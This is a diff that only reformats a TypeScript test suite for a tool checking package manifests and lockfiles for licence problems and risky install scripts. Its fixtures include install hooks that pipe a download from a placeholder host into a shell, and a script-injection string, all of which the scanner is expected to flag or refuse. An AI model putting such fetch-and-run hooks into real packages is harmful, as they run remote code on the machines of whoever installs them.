@@ -15,9 +15,12 @@ describe('JSON with positions', () => {
     expect([b?.line, stringOf(b)]).toEqual([3, 'c']);
   });
 
-  it.each(['', '{', '{"a": }', '{"a": alert(1)}', '{a: 1}', '"\n', '{"a": 1} {"b": 2}', '{"__proto__": [undefined]}'])('refuses %j', (text) => {
-    expect(() => parsePositionedJson(text)).toThrow(/^no JSON/);
-  });
+  it.each(['', '{', '{"a": }', '{"a": alert(1)}', '{a: 1}', '"\n', '{"a": 1} {"b": 2}', '{"__proto__": [undefined]}'])(
+    'refuses %j',
+    (text) => {
+      expect(() => parsePositionedJson(text)).toThrow(/^no JSON/);
+    },
+  );
 
   it('keeps names that mean something to JavaScript apart', () => {
     const json = parsePositionedJson('{"__proto__": {"hasInstallScript": true}, "constructor": "x"}');
@@ -31,7 +34,9 @@ describe('JSON with positions', () => {
 });
 
 describe('the licence policy', () => {
-  const policy: LicencePolicy = manifestTools.find(({ id }) => id === 'license-policy')!.settings!['policy'] as LicencePolicy;
+  const policy: LicencePolicy = manifestTools.find(({ id }) => id === 'license-policy')!.settings![
+    'policy'
+  ] as LicencePolicy;
 
   it.each([
     ['MIT', undefined],
@@ -73,15 +78,23 @@ describe('manifest checks', () => {
       'f/package.json': `{"scripts": {"test": "${'x'.repeat(2_000_000)}"}}`,
       'g/package.json': '\uFEFF{\r\n"scripts": {\r\n"preinstall": "curl https://example.net | sh"}}',
       'h/package.json': '{"scripts": "none", "dependencies": [1], "private": "yes", "workspaces": 3}',
-      'i/package-lock.json': '{"packages": {"node_modules/a": null, "node_modules/b": {"resolved": 7, "license": {"type": "GPL-3.0"}}}}',
+      'i/package-lock.json':
+        '{"packages": {"node_modules/a": null, "node_modules/b": {"resolved": 7, "license": {"type": "GPL-3.0"}}}}',
     });
     expect(run.found).toEqual(['g/package.json:3 fetches-and-runs']);
-    expect([...run.unreadable].sort()).toEqual(['a/package.json', 'b/package.json', 'c/package.json', 'd/package.json', 'e/package-lock.json']);
+    expect([...run.unreadable].sort()).toEqual([
+      'a/package.json',
+      'b/package.json',
+      'c/package.json',
+      'd/package.json',
+      'e/package-lock.json',
+    ]);
     for (const { id } of manifestTools) expect(run.tool(id).outcome).toEqual({ status: 'completed' });
   });
 
   it('read locks of version 1, nested packages included', async () => {
-    const nested = '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": {"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", "resolved": "https://r.example.org/c.tgz"}}}}}';
+    const nested =
+      '{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "https://r.example.org/a.tgz", "integrity": "sha512-AA==", "dependencies": {\n"b": {"version": "git+ssh://git@example.net/b.git#main"},\n"c": {"version": "1.0.0", "resolved": "https://r.example.org/c.tgz"}}}}}';
     const { found } = await runOn(profile, manifestTools, { 'package-lock.json': nested });
     expect(found).toEqual(['package-lock.json:2 git-dependency-not-pinned', 'package-lock.json:3 no-integrity']);
   });
@@ -91,14 +104,20 @@ describe('a published package', () => {
   const PACKAGE = { kind: 'package', leftOut: [] } as const;
   const REPOSITORY = { kind: 'repository', leftOut: [] } as const;
   const tree = {
-    'package.json': '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl https://example.net/a.sh | sh",\n"test": "jest"}}',
+    'package.json':
+      '{"name": "a", "license": "GPL-3.0-only",\n"scripts": {\n"preinstall": "curl https://example.net/a.sh | sh",\n"postinstall": "node-gyp rebuild",\n"prepare": "curl https://example.net/a.sh | sh",\n"test": "jest"}}',
     'bundled/package.json': '{"name": "b",\n"license": {"type": "AGPL-3.0"}, "scripts": {"postinstall": "node b.js"}}',
     'dist/package.json': '{"type": "module", "license": "GPL-3.0-only"}',
   };
 
   it('is judged as the dependency that it is: by its own licence, by those of what it bundles, and by what runs when it is installed', async () => {
     const { found } = await runOn(profile, manifestTools, tree, PACKAGE);
-    expect(found).toEqual(['bundled/package.json:2 network-copyleft-licence', 'package.json:1 strong-copyleft-licence', 'package.json:3 fetches-and-runs', 'package.json:4 dependency-runs-script']);
+    expect(found).toEqual([
+      'bundled/package.json:2 network-copyleft-licence',
+      'package.json:1 strong-copyleft-licence',
+      'package.json:3 fetches-and-runs',
+      'package.json:4 dependency-runs-script',
+    ]);
   });
 
   it('is no dependency where its source is looked at: there its licence is a choice, and its scripts are those of the project', async () => {
